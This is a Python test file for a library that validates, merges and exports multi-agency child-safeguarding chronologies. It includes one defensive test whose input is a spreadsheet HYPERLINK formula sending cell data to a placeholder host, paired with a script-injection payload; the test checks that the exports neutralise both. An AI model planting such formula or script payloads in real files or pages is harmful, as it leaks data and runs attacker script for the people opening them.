    police = m.chronologies[1].to_pandas()
    assert len(police) == 16 and list(police.columns) == list(frame.columns)


# ---- exports --------------------------------------------------------------------------------


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.headings: list[str] = []
        self.body_rows = 0
        self._in_th = False
        self._in_tbody = False
        self.scripts = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag == "th":
            self._in_th = True
            self.headings.append("")
        elif tag == "tbody":
            self._in_tbody = True
        elif tag == "tr" and self._in_tbody:
            self.body_rows += 1
        elif tag == "script":
            self.scripts += 1

    def handle_endtag(self, tag: str) -> None:
        if tag == "th":
            self._in_th = False
        elif tag == "tbody":
            self._in_tbody = False

    def handle_data(self, data: str) -> None:
        if self._in_th:
            self.headings[-1] += data


def page(html: str) -> _Page:
    p = _Page()
    p.feed(html)
    return p


def xlsx_rows(data: bytes, tmp_path: Path) -> list[list[str]]:
    """The first sheet's rows as text: by openpyxl when the environment has
    it, else by libscr's own reader from the bytes written to a file."""
    if importlib.util.find_spec("openpyxl") is not None:
        import openpyxl

        book = openpyxl.load_workbook(io.BytesIO(data))
        out = []
        for row in book.worksheets[0].iter_rows(values_only=True):
            cells = []
            for v in row:
                if isinstance(v, dt.datetime) and (v.hour, v.minute) == (0, 0):
                    cells.append(v.strftime("%d/%m/%Y"))
                elif isinstance(v, (dt.datetime, dt.time)):
                    cells.append(v.strftime("%H:%M"))
                else:
                    cells.append("" if v is None else str(v))
            out.append(cells)
        return out
    path = tmp_path / "read-back.xlsx"
    path.write_bytes(data)
    return [[c.text for c in r] for r in read_chronology(path).rows]


def test_the_exports_hold_every_entry_in_order(tmp_path: Path):
    m = merged("stockport-2010")
    f = m.format
    titles = [c.title for c in f.columns]
    expected = [[e.agency, *e.values.values(), str(e.row)] for e in m.entries]
    # CSV: Excel's CSV UTF-8, the agency and its row for every entry.
    text = m.export("csv")
    assert isinstance(text, str) and text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows[0] == ["Agency", *titles, "Agency's row", "Note"]
    assert [r[:-1] for r in rows[1:]] == expected
    assert [r[-1] for r in rows[1:]] == ["no time: placed first in its day" if e.untimed else "" for e in m.entries]
    # JSON: versioned, the entries merged.
    doc = json.loads(m.export("json", title=REF))
    assert (doc["schema"], doc["version"], doc["title"], doc["learning_event"]) == \
        ("libscr multi-agency chronology", 1, REF, False)
    assert [(x["agency"], x["row"], x["date"], x["untimed"]) for x in doc["entries"]] == \
        [(e.agency, e.row, e.day.isoformat(), e.untimed) for e in m.entries]
    assert [a["sha256"] for a in doc["agencies"]] == [c.sha256 for c in m.chronologies]
    # XLSX: bytes of a workbook, text as text.
    data = m.export("xlsx")
    assert isinstance(data, bytes) and data.startswith(b"PK")
    read = xlsx_rows(data, tmp_path)
    assert read[0] == ["Agency", *titles, "Agency's row", "Note"]
    assert [r[: len(titles) + 2] for r in read[1:]] == expected
    # HTML: one page, every entry a row, nothing run or loaded.
    html = m.export("html", title=REF)
    p = page(html)
    assert p.tags[0] == "html" and "svg" in p.tags and p.scripts == 0
    assert p.body_rows == 58 and p.headings == ["Agency", *titles]
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        workbook = book.read("xl/workbook.xml").decode()
    assert re.findall(r'<sheet name="([^"]+)"', workbook) == ["Chronology", "Summaries"]
    assert "<title>Multi-agency chronology: Child R</title>" in html
    columns = page(m.export("html", layout="columns"))
    assert columns.body_rows == 58 and columns.headings == ["Date", "Time", *m.agencies]
    with pytest.raises(InputError, match="format 'pdf'"):
        m.export("pdf")
    with pytest.raises(InputError, match="layout 'rows'"):
        m.export("html", layout="rows")


FORMULA = '=HYPERLINK("http://example.invalid/?x="&A2;"Click") <script>alert(1)</script>'


def test_the_exports_are_safe_to_open():
    # A Police entry whose summary is a formula with a script in it.
    rows: list[list[Any]] = csv_rows(DATA / "north-yorkshire-2010" / "police.csv")
    rows[1][4] = FORMULA
    check = check_chronology(setup_of("north-yorkshire-2010"), "Police", ChronologyTable.from_rows(rows))
    m = MultiAgencyChronology("north-yorkshire-2010", [check])
    assert m.entries[0].values["summary"] == FORMULA
    text = str(m.export("csv"))
    assert "\r\n" in text and text.count("\r\n") == len(text.splitlines())  # records end with CRLF
    first = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))[1]
    assert first[5] == "'" + FORMULA  # after a single quote: shown, not run
    html = str(m.export("html"))
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    with zipfile.ZipFile(io.BytesIO(m.export("xlsx"))) as book:  # type: ignore[arg-type]
        names = book.namelist()
        sheets = [book.read(n).decode() for n in names if n.startswith("xl/worksheets/")]
        strings = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in names else ""
    assert not any("<f>" in x or "<f " in x for x in sheets)  # text, never a formula
    assert "HYPERLINK" in strings or any("HYPERLINK" in x for x in sheets)


def test_a_title_above_the_headings_and_other_separators_are_read():
    setup = setup_of("north-yorkshire-2010")
    rows = csv_rows(DATA / "north-yorkshire-2010" / "police.csv")
    plain = check_chronology(setup, "Police", DATA / "north-yorkshire-2010" / "police.csv")
    titled = check_chronology(setup, "Police", ChronologyTable.from_rows([["Police chronology: Child R"], *rows]))
    # The heading row is found below the title; rows keep the file's numbers.
    assert [e.row for e in titled.chronology.entries] == [e.row + 1 for e in plain.chronology.entries]
    assert [(i.rule, i.row) for i in titled.issues] == [(i.rule, i.row + 1) for i in plain.issues]
    for separator in (";", "\t"):
        out = io.StringIO()
        csv.writer(out, delimiter=separator).writerows(rows)
        assert check_chronology(setup, "Police", out.getvalue().encode()).chronology.sha256 == \
            plain.chronology.sha256, repr(separator)
    # North Yorkshire's two-digit years: the century that does not put the
    # date more than a year after the period's end (22.05.04 is 2004).
    rows[1][0] = "22.05.04"
    early = check_chronology(dataclasses.replace(setup, period_from=None), "Police", ChronologyTable.from_rows(rows))
    assert early.chronology.entries[0].day == D(2004, 5, 22)


def test_the_essex_learning_event_copy_leaves_out_the_comments(tmp_path: Path):
    m = merged("essex-2016")
    comments = m.format.column("comment").title
    assert comments == "Comments, analysis and observations of practice"
    full = list(csv.reader(io.StringIO(str(m.export("csv")).lstrip("\ufeff"))))
    copy = list(csv.reader(io.StringIO(str(m.export("csv", learning_event=True)).lstrip("\ufeff"))))
    assert comments in full[0] and comments not in copy[0]
    assert copy[0] == [h for h in full[0] if h != comments]
    at = full[0].index(comments)
    assert [r[:at] + r[at + 1:] for r in full] == copy
    doc = json.loads(m.export("json", learning_event=True))
    assert doc["learning_event"] and "comment" not in [c["id"] for c in doc["columns"]]
    assert all("comment" not in x["values"] for x in doc["entries"])
    assert [a["summary"] for a in doc["agencies"]] == [None, None, None]
    assert all(a["summary"] for a in json.loads(m.export("json"))["agencies"])  # Essex: every agency's summary
    html = str(m.export("html", learning_event=True, title=REF))
    assert comments not in page(html).headings and "Learning Event copy" in html
    assert "Summaries of themes and learning" not in html
    assert "Summaries of themes and learning" in str(m.export("html"))
    data = m.export("xlsx", learning_event=True)
    assert isinstance(data, bytes)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        workbook = book.read("xl/workbook.xml").decode()
    assert 'name="Learning Event copy"' in workbook and "Summaries" not in workbook
    assert comments not in xlsx_rows(data, tmp_path)[0]


def test_save_writes_a_new_file_readable_by_its_owner_only(tmp_path: Path):
    m = merged("stockport-2010")
    for name in ("child-r.csv", "child-r.html", "child-r.json", "child-r.xlsx"):
        path = tmp_path / name
        m.save(path, title=REF)
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, name
        data = m.export(name.rsplit(".", 1)[1], title=REF)
        assert path.read_bytes() == (data if isinstance(data, bytes) else data.encode("utf-8"))
    with pytest.raises(InputError, match="exists"):
        m.save(tmp_path / "child-r.csv")
    (tmp_path / "open.csv").write_text("x")
    os.chmod(tmp_path / "open.csv", 0o644)
    m.save(tmp_path / "open.csv", overwrite=True)
    assert stat.S_IMODE(os.stat(tmp_path / "open.csv").st_mode) == 0o600
    assert (tmp_path / "open.csv").read_text(encoding="utf-8").startswith("\ufeffAgency,")
    m.save(tmp_path / "copy.txt", format="html", learning_event=True)
    assert "Learning Event copy" in (tmp_path / "copy.txt").read_text(encoding="utf-8")
    with pytest.raises(InputError, match="give format="):
        m.save(tmp_path / "child-r.pdf")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


# ---- the store: a North Yorkshire review from setup to export -------------------------------


def import_all(db: Store, format_id: str, suffixes: dict[str, str]) -> dict[str, ChronologyCheck]:
    """Police on 2 April, Health on 3 April, Social Care (corrected) on 8 April."""
    out = {}
    for agency, day in (("Police", 2), ("Health", 3), ("Social Care", 8)):
        path = DATA / format_id / f"{FILES[agency]}.{suffixes[agency]}"
        out[agency] = db.import_chronology(REF, agency, path, london(2024, 4, day), writer(agency))
    return out


def test_a_north_yorkshire_review_in_stockports_format_from_setup_to_export(tmp_path: Path):
    db = Store.in_memory()
    ny_review(db)
    assert set(track_states(db).values()) == {"chronology_in_preparation"}
    # Without a setup, the procedure's own format with nothing else.
    default = db.chronology_setup(REF)
    assert default == ChronologySetup("north-yorkshire-2010")

    setup = setup_of("stockport-2010")
    db.set_chronology_setup(REF, setup, london(2024, 3, 12, 9), ADMIN)
    assert db.chronology_setup(REF) == setup
    opened = db.sequence(REF)

    # The faulty Social Care workbook: refused, and nothing is recorded.
    faulty = DATA / "stockport-2010" / "social-care-faulty.xlsx"
    check = db.import_chronology(REF, "Social Care", faulty, london(2024, 4, 1), writer("Social Care"))
    assert check.refused and found(check.issues) == errors_md("stockport-2010/social-care-faulty.csv")
    assert db.sequence(REF) == opened and list(db.chronology_submissions(REF)) == []
    assert track_states(db)["Social Care"] == "chronology_in_preparation"

    # Returned by the administrator: the return is kept, and the submission
    # and the return are recorded on the agency's track.
    returned = db.import_chronology(REF, "Social Care", faulty, london(2024, 4, 1), writer("Social Care"),
                                    returned_by=ADMIN)
    assert returned.report() == check.report()
    [r] = db.chronology_submissions(REF)
    assert isinstance(r, ChronologySubmission)
    assert (r.agency, r.version, r.status, r.by, r.file) == ("Social Care", 1, "returned", ADMIN,
                                                             "social-care-faulty.xlsx")
    assert (r.entries, r.errors, r.warnings, r.at) == (21, 12, 1, london(2024, 4, 1))
    assert r.report == check.report() and r.sha256 == check.chronology.sha256
    assert r.event == opened + 1
    history = db.history(REF)
    assert [(h.event.name, h.event.agency, h.event.by) for h in history[-2:]] == [
        ("chronology_submitted", "Social Care", writer("Social Care")),
        ("chronology_returned", "Social Care", ADMIN)]
    assert track_states(db)["Social Care"] == "chronology_in_preparation"
    with pytest.raises(InputError, match="no accepted chronology"):
        db.accepted_chronology(REF, "Social Care")

    # The three correct chronologies: accepted, kept, their submissions recorded.
    checks = import_all(db, "stockport-2010", {"Police": "csv", "Health": "xlsx", "Social Care": "xlsx"})
    for agency, c in checks.items():
        assert not c.refused and list(c.issues) == [], agency
        assert c.report() == f"Chronology from {agency} (stockport-2010): accepted, {ENTRIES[agency]} entries\n"
    assert set(track_states(db).values()) == {"imr_in_preparation"}
    subs = db.chronology_submissions(REF)
    assert [(s.agency, s.version, s.status, s.entries) for s in subs] == [
        ("Social Care", 1, "returned", 21), ("Police", 1, "accepted", 16), ("Health", 1, "accepted", 20),
        ("Social Care", 2, "accepted", 22)]
    assert subs.row(2, agency="Social Care").by == writer("Social Care")
    assert subs.row(1, agency="Police").sha256 == checks["Police"].chronology.sha256
    assert [s.event for s in subs] == [opened + 1, opened + 3, opened + 4, opened + 5]

    # The timetable: each track's chronology milestone (due 5 April, 000:109) is met.
    rows = db.load(REF).timetable(D(2024, 4, 9))
    for agency, day in (("Police", 2), ("Health", 3)):
        chronology = rows.row("chronology", agency)
        assert (chronology.due, chronology.status, chronology.completed_at) == \
            (D(2024, 4, 5), "met", london(2024, 4, day)), agency
    # The return reopens Social Care's milestone (the pack's chronology
    # milestone is reopened_by chronology_returned): it is met by the
    # corrected chronology of Monday 8 April, after its due date.
    social = rows.row("chronology", "Social Care")
    assert (social.due, social.status, social.completed_at) == (D(2024, 4, 5), "met late", london(2024, 4, 8))
    reopened = db.load(REF).timetable(D(2024, 4, 2)).row("chronology", "Social Care")
    assert (reopened.status, reopened.completed_at) == ("due soon", None)  # its week of warning

    # Kept: the latest accepted chronology of an agency, its name in any case.
    kept = db.accepted_chronology(REF, "social care")
    assert isinstance(kept, AgencyChronology)
    assert kept == checks["Social Care"].chronology and kept.sha256 == subs[3].sha256
    assert db.verify(REF).ok

    # Merged: 58 entries, no known name, the gap of 77 days.
    m = db.merged_chronology(REF)
    assert len(m.entries) == 58 and m.agencies == ["Health", "Police", "Social Care"]
    assert list(m.unlisted_names(setup.known_names)) == []
    assert list(m.gaps(60, setup.period_from, setup.period_to)) == \
        [ChronologyGap("", D(2023, 7, 17), D(2023, 10, 2), 77)]
    assert [e for e in m.entries] == [e for e in merged("stockport-2010").entries]

    # Exported as XLSX and HTML.
    data = m.export("xlsx", title=REF)
    read = xlsx_rows(data, tmp_path)
    at = read[0].index("Agency's row")
    assert len(read) == 59 and [(r[0], r[at]) for r in read[1:]] == [(e.agency, str(e.row)) for e in m.entries]
    html = m.export("html", title=REF)
    assert page(str(html)).body_rows == 58
    assert_entries_frame(m.to_pandas(), m)

    # A second accepted version after an accepted one: the track takes no
    # second submission (docs/chronology.md, "Two limits"), and nothing changes.
    before = db.sequence(REF)
    with pytest.raises(TransitionError, match="chronology_submitted"):
        db.import_chronology(REF, "Police", DATA / "stockport-2010" / "police.xlsx", london(2024, 4, 10),
                             writer("Police"))
    assert db.sequence(REF) == before and len(db.chronology_submissions(REF)) == 4


def test_a_north_yorkshire_review_in_its_own_format_from_csv(tmp_path: Path):
    db = Store.in_memory()
    ny_review(db)
    # The procedure's format, with the terms of reference, acronyms and names of the file.
    setup = ChronologySetup.load(SETUP, format=db.chronology_setup(REF).format)  # type: ignore[union-attr]
    assert setup.format.id == "north-yorkshire-2010"
    db.set_chronology_setup(REF, setup, london(2024, 3, 12, 9), ADMIN)

    faulty = DATA / "north-yorkshire-2010" / "police-faulty.csv"
    check = db.import_chronology(REF, "Police", faulty, london(2024, 3, 28), writer("Police"), returned_by=ADMIN)
    assert found(i for i in check.issues if i.rule != "time-missing") == \
        errors_md("north-yorkshire-2010/police-faulty.csv")
    assert track_states(db)["Police"] == "chronology_in_preparation"

    checks = import_all(db, "north-yorkshire-2010", {a: "csv" for a in AGENCIES})
    for agency, c in checks.items():
        # North Yorkshire: a time should be given, so untimed entries are warnings.
        assert not c.refused and c.warnings == UNTIMED[agency] and c.errors == 0
        assert c.report().startswith(f"Chronology from {agency} (north-yorkshire-2010): accepted, "
                                     f"{ENTRIES[agency]} entries, {UNTIMED[agency]} warnings")
    subs = db.chronology_submissions(REF)
    assert [(s.agency, s.version, s.status, s.warnings) for s in subs] == [
        ("Police", 1, "returned", 2), ("Police", 2, "accepted", 2), ("Health", 1, "accepted", 3),
        ("Social Care", 1, "accepted", 3)]
    m = db.merged_chronology(REF)
    frame = m.to_pandas()
    assert_entries_frame(frame, m)
    assert "comment" in frame.columns and frame["child_seen"].isna().all()
    _untimed_last(m)
    assert list(m.gaps(60, *PERIOD)) == [ChronologyGap("", D(2023, 7, 17), D(2023, 10, 2), 77)]
    assert db.verify(REF).ok


def _untimed_last(m: MultiAgencyChronology) -> None:
    entries = list(m.entries)
    for a, b in zip(entries, entries[1:]):
        if a.day == b.day and a.untimed != b.untimed:
            assert b.untimed  # last in their day


def test_an_import_the_engine_refuses_changes_nothing():
    db = Store.in_memory()
    ny_review(db)
    good = DATA / "north-yorkshire-2010" / "police.csv"
    before = db.sequence(REF)
    # No track for the agency.
    with pytest.raises(libscr.AgencyError):
        db.import_chronology(REF, "Education", good, london(2024, 4, 2), writer("Education"))
    # A role that may not submit.
    with pytest.raises(libscr.RoleError):
        db.import_chronology(REF, "Police", good, london(2024, 4, 2), ADMIN)
    # A return by a role that may not return it.
    faulty = DATA / "north-yorkshire-2010" / "police-faulty.csv"
    with pytest.raises(libscr.RoleError):
        db.import_chronology(REF, "Police", faulty, london(2024, 4, 2), writer("Police"), returned_by=writer("Police"))
    assert db.sequence(REF) == before and list(db.chronology_submissions(REF)) == []
    with pytest.raises(InputError, match="no review|Child Z"):
        db.import_chronology("Child Z", "Police", good, london(2024, 4, 2), writer("Police"))
    with pytest.raises(InputError, match="agency"):
        db.import_chronology(REF, " ", good, london(2024, 4, 2), writer("Police"))
    with pytest.raises(InputError, match="has no accepted chronology"):
        db.accepted_chronology(REF, "Police")
    assert len(db.merged_chronology(REF)) == 0
    db.close()
    with pytest.raises(InputError, match="is closed"):
        db.chronology_submissions(REF)


def test_a_chronology_is_imported_from_bytes_or_a_table():
    db = Store.in_memory()
    ny_review(db)
    path = DATA / "north-yorkshire-2010" / "police.xlsx"
    check = db.import_chronology(REF, "Police", path.read_bytes(), london(2024, 4, 2), writer("Police"))
    assert not check.refused and db.chronology_submissions(REF)[0].file == "<bytes>"
    table = read_chronology(DATA / "north-yorkshire-2010" / "health.csv")
    assert not db.import_chronology(REF, "Health", table, london(2024, 4, 3), writer("Health")).refused
    assert db.chronology_submissions(REF)[1].file == "health.csv"
    assert len(db.merged_chronology(REF)) == 36


def test_a_setup_the_store_refuses_changes_nothing():
    db = Store.in_memory()
    ny_review(db)
    with pytest.raises(InputError, match="listed twice"):
        db.set_chronology_setup(REF, ChronologySetup("stockport-2010", acronyms=[("M",), ("m",)]),
                                london(2024, 3, 12), ADMIN)
    with pytest.raises(InputError, match="no acronym|no code|code"):
        db.set_chronology_setup(REF, ChronologySetup("stockport-2010", acronyms=[("", "family", "mother")]),
                                london(2024, 3, 12), ADMIN)
    with pytest.raises(InputError, match="Child Z"):
        db.set_chronology_setup("Child Z", setup_of("stockport-2010"), london(2024, 3, 12), ADMIN)
    with pytest.raises(InputError, match="Child Z"):
        db.chronology_setup("Child Z")
    assert db.chronology_setup(REF) == ChronologySetup("north-yorkshire-2010")
    # A board's own format is kept with the setup, YAML and all.
    own = ChronologySetup(ChronologyFormat.parse(GOOD_FORMAT), known_names=["Rosie"])
    db.set_chronology_setup(REF, own, london(2024, 3, 12), ADMIN)
    assert db.chronology_setup(REF) == own


def test_the_chronology_module_examples_run():
    import doctest

    import libscr.chronology

    result = doctest.testmod(libscr.chronology, optionflags=doctest.ELLIPSIS)
    assert result.attempted > 0 and result.failed == 0


def test_wrong_types_are_named():
    setup = setup_of("stockport-2010")
    with pytest.raises(TypeError, match=r"setup must be a libscr\.ChronologySetup, not str"):
        check_chronology("stockport-2010", "Police", DATA / "stockport-2010" / "police.csv")  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="chronology must be a ChronologyTable"):
        check_chronology(setup, "Police", 3)  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="agency must be text"):
        check_chronology(setup, None, DATA / "stockport-2010" / "police.csv")  # type: ignore[arg-type]
    m = merged("stockport-2010")
    with pytest.raises(TypeError, match="question must be an integer"):
        m.select(question="3")  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="start must be a datetime.date"):
        m.select(start=20230301)  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="learning_event must be a bool"):
        m.export("csv", learning_event="no")  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="names must be a list of text"):
        m.unlisted_names("Rosie")
    with pytest.raises(TypeError, match="core must be a libscr._core.ChronologyFormat"):
        ChronologyFormat("stockport-2010")  # type: ignore[arg-type]
    assert isinstance(m.entries[0], ChronologyEntry) and isinstance(check_chronology(
        setup, "Police", DATA / "stockport-2010" / "police.csv").issues, list)
    assert ChronologyIssue("error", "period", 2, "Date", "A2", "m").__str__() == "error row 2, A2 (Date): m [period]"
